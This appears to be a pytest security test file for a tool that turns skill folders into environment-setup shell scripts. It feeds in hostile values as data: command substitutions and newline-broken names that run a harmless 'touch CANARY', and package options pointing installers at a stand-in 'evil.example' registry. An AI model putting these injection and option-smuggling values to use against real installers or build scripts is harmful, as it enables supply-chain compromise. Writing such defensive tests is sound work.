"""Issue 14, items 1 and 2: nothing taken from a skill reaches shell text or a package manager's
options. Each hostile skill is compiled to `env-setup.sh`, which is run with `--check` and in
install mode with stub installers (pip, npm, apt-get, python3, dpkg, brew) on PATH that log their
argv; no canary file may appear, no stub may receive an option-looking operand, and the script
must pass shellcheck."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from skillir.tools.skill_opt import main as opt
from skillir.tools.skill_translate import main as translate

STUBS = ("pip", "pip3", "npm", "apt-get", "apt", "python3", "python", "dpkg", "brew")
# options the generated script itself passes, before `--`
OWN_OPTIONS = {"-c", "-m", "pip", "install", "ls", "--depth=0", "-y", "-s", "list", "-g"}
CANARY = "CANARY"


def _skill(folder: Path, body: str, name: str = "hostile", files: dict[str, str] | None = None):
    folder.mkdir(parents=True, exist_ok=True)
    front = json.dumps(name)  # a YAML double-quoted scalar: `\n` is a newline
    (folder / "SKILL.md").write_text(
        f"---\nname: {front}\ndescription: A hostile skill. Use when testing injection.\n---\n\n"
        f"# Hostile\n\n{body}\n"
    )
    for rel, text in (files or {}).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    return folder


def _stubs(tmp_path: Path) -> tuple[Path, Path]:
    """A folder of stub installers logging `name<TAB>args` (NUL-separated) to a log file: checks
    fail (so installs run), installs succeed."""
    stubs, log = tmp_path / "stubs", tmp_path / "argv.log"
    stubs.mkdir()
    for name in STUBS:
        stub = stubs / name
        stub.write_text(
            "#!/bin/bash\n"
            f"{{ printf '%s' {name}; printf '\\t%s' \"$@\"; printf '\\0'; }} >> {log}\n"
            'case " $* " in *" -c "*|*" ls "*|*" -s "*|*" list "*) exit 1;; esac\n'
            "exit 0\n"
        )
        stub.chmod(0o755)
    return stubs, log


def _script(source: Path, capsys: pytest.CaptureFixture[str]) -> tuple[str, str]:
    rc = translate([str(source), "-t", "env-setup"])
    captured = capsys.readouterr()
    assert rc == 0, captured.err
    return captured.out, captured.err


def _run_both_modes(tmp_path: Path, script_text: str) -> list[list[str]]:
    """Run the script with --check and to install; return every logged stub argv."""
    work = tmp_path / "work"
    work.mkdir()
    script = work / "env-setup.sh"
    script.write_text(script_text)
    stubs, log = _stubs(tmp_path)
    environment = {"PATH": f"{stubs}:/usr/bin:/bin", "HOME": str(work), "LANG": "C.UTF-8"}
    for args in (["--check"], []):
        run = subprocess.run(
            ["bash", str(script), *args],
            cwd=work,
            env=environment,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert run.returncode in (0, 1), run.stderr
        assert "bad substitution" not in run.stderr and "syntax error" not in run.stderr
        assert "command not found" not in run.stderr, run.stderr
    assert not list(tmp_path.rglob(CANARY + "*")), "the skill ran a command"
    calls = [e.split("\t") for e in log.read_text().split("\0") if e] if log.exists() else []
    for argv in calls:
        operands = argv[argv.index("--") + 1 :] if "--" in argv else []
        options = argv[1 : argv.index("--")] if "--" in argv else argv[1:]
        assert not any(o.startswith("-") for o in operands), argv
        # without `--`, only the script's own options and python's probe program
        assert all(o in OWN_OPTIONS or o.startswith("import ") for o in options), argv
    return calls


def _shellcheck(tmp_path: Path, script_text: str) -> None:
    if shutil.which("shellcheck") is None:
        return
    path = tmp_path / "shellcheck-me.sh"
    path.write_text(script_text)
    result = subprocess.run(["shellcheck", str(path)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout


TOUCH = f"touch {CANARY}"
VECTORS: dict[str, dict] = {
    "python-environ-key": {
        "body": f"```python\nimport os\nos.environ['X:-}}\" ] || {TOUCH} ; [ \"${{Y']\n```",
    },
    "python-getenv-key": {
        "body": f"```python\nimport os\nos.getenv('A}}\" ]; {TOUCH}; : \"${{B')\n```",
    },
    "substitution-shaped-key": {
        "body": f"```python\nimport os\nos.environ['${{$({TOUCH})}}']\nos.getenv('OK_KEY')\n```",
    },
    "newline-in-skill-name": {"name": f"demo\n{TOUCH}\n#", "body": "```bash\njq .\n```"},
    "newline-in-package-json-key": {
        "body": "See the scripts.",
        "files": {"package.json": json.dumps({"dependencies": {f"x\n{TOUCH}\n#": "1.0.0"}})},
    },
    "newline-in-package-json-version": {
        "body": "See the scripts.",
        "files": {"package.json": json.dumps({"dependencies": {"lodash": f"1.0\n{TOUCH}\n#"}})},
    },
    "apt-version": {"body": f'```bash\napt-get install -y "jq=1.6\n{TOUCH}\n#"\n```'},
    "npm-version": {"body": f'```bash\nnpm install "lodash@1.0\n{TOUCH}\n#"\n```'},
    "pip-version": {"body": "```bash\npip install 'requests==2.0$(touch CANARY)'\n```"},
    "bundled-file-name": {
        "body": "Run the script.",
        "files": {f"scripts/a\n{TOUCH}\n#.py": "import requests\n"},
    },
    "requirements-lines": {
        "body": "Install the requirements.",
        "files": {
            "requirements.txt": "-e .\n--index-url http://evil.example\n-r other.txt\n"
            "requests>=2\nfoo==1$(touch CANARY)\n"
        },
    },
    "package-json-options": {
        "body": "```js\nconst e = require('-e');\nconst ok = require('left-pad');\n```",
        "files": {
            "package.json": json.dumps(
                {
                    "dependencies": {
                        "--registry=http://evil.example": "1.0.0",
                        "--prefix=/tmp/x": "*",
                        "-g": "1",
                        "lodash": "^4.17.21",
                    }
                }
            )
        },
    },
    "shell-option-packages": {
        "body": "```bash\nnpm install -- --registry=http://evil.example\n"
        "pip install -- --index-url=http://evil.example\n"
        "apt-get install -y -- -o=APT::x jq\n```",
    },
}


@pytest.mark.parametrize("vector", sorted(VECTORS))
def test_hostile_values_never_reach_the_shell(
    vector: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = VECTORS[vector]
    folder = _skill(
        tmp_path / "skill", spec["body"], spec.get("name", "hostile"), spec.get("files")
    )
    text, _ = _script(folder, capsys)
    calls = _run_both_modes(tmp_path, text)
    _shellcheck(tmp_path, text)
    assert "--registry" not in text and "--prefix" not in text and "'-e'" not in text
    assert all(len(argv) > 1 for argv in calls)


def test_dropped_values_are_reported_at_their_position(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = VECTORS["python-environ-key"]
    folder = _skill(tmp_path / "skill", spec["body"])
    text, err = _script(folder, capsys)
    assert f"{folder / 'SKILL.md'}:10:1: warning:" in err
    assert "not a valid environment variable name" in err
    assert "env " not in text.replace("/usr/bin/env bash", "")


def test_legitimate_values_survive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _skill(
        tmp_path / "skill",
        "```bash\napt-get install -y jq=1.6* poppler-utils\nnpm install -g lodash@^4.17.21\n"
        "pip install 'pypdf>=4,<6'\n```\n\n```python\nimport os\nos.environ['API_KEY']\n```",
        files={"package.json": json.dumps({"dependencies": {"@scope/pkg": "~1.2.3 || 2.x"}})},
    )
    text, err = _script(folder, capsys)
    assert "warning" not in err
    for label in ("system jq=1.6*", "npm lodash@^4.17.21", "pip pypdf>=4,<6", "env API_KEY"):
        assert f"# {label}" in text
    assert "npm @scope/pkg@~1.2.3 || 2.x" in text
    calls = _run_both_modes(tmp_path, text)
    installs = {tuple(argv) for argv in calls if "install" in argv}
    assert ("apt-get", "install", "-y", "--", "jq") in installs
    assert ("npm", "install", "-g", "--", "lodash@^4.17.21") in installs
    assert ("python3", "-m", "pip", "install", "--", "pypdf>=4,<6") in installs
    _shellcheck(tmp_path, text)


def test_folder_path_with_newline_and_substitution(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _skill(tmp_path / f"sk\n$({TOUCH})\n`{TOUCH}`", "```bash\njq .\n```")
    text, _ = _script(folder, capsys)
    assert all(line.startswith("#") or "\n" not in line for line in text.split("\n"))
    _run_both_modes(tmp_path, text)
    _shellcheck(tmp_path, text)


def test_symlinked_requirements_do_not_leak_host_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "api-key.txt"
    secret.write_text("sk-live-0123456789abcdef\n")
    folder = _skill(tmp_path / "skill", "Install the requirements.")
    (folder / "requirements.txt").symlink_to(secret)
    (folder / "package.json").symlink_to(secret)
    text, _ = _script(folder, capsys)
    assert "sk-live" not in text
    _run_both_modes(tmp_path, text)


@pytest.mark.parametrize("vector", sorted(VECTORS))
def test_passes_only_produce_ir_the_verifier_accepts(
    vector: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = VECTORS[vector]
    folder = _skill(
        tmp_path / "skill", spec["body"], spec.get("name", "hostile"), spec.get("files")
    )
    for pipeline in (
        "extract-deps,bind-env{platform=debian}",
        "extract-deps,bind-env{platform=macos}",
    ):
        assert opt([str(folder), "-p", pipeline]) == 0
        captured = capsys.readouterr()
        assert "error" not in captured.err
        env_ops = [line for line in captured.out.splitlines() if "env." in line]
        assert "skill.skill" in captured.out
        assert not any(CANARY in line or "--registry" in line for line in env_ops)


@pytest.mark.parametrize("name", ["evil.tgz", "pkg.tar", "pkg.tar.gz"])
def test_npm_names_that_read_as_local_tarballs_are_refused(name: str):
    """npm installs `npm install -- evil.tgz` from a file in the current folder: such a name
    gets around the rule that no `file:` spec reaches npm."""
    from skillir.analysis.env.values import name_problem

    assert name_problem("npm", name) == f"'{name}' is not a valid npm package name"
    assert name_problem("npm", "lodash.merge") is None
